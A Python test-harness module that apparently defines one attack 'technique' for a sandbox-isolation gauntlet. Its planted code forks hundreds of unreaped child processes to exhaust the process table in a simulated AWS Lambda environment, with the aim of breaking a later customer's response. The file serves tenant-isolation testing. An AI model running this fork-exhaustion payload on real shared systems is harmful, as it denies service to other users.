"""Leaves dead processes that no parent waits for, until no process or thread can be started."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import WrongAnswers
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
done, full = os.pipe()
if os.fork() == 0:
    os.setsid()
    for _ in range(760):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    os.write(full, b"x")
    time.sleep(20)
    os._exit(0)
os.read(done, 1)
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1499.001",),
    family="M10",
    must_fail_to="prevent a later customer's response",
    plant=PLANT,
    evidence=WrongAnswers(),
    environment={"AWS_EXECUTION_ENV": "AWS_Lambda_python3.13"},
    spoils=True,
    finding="environment.zombies",
    ends_window=True,
    process="may reach",
)
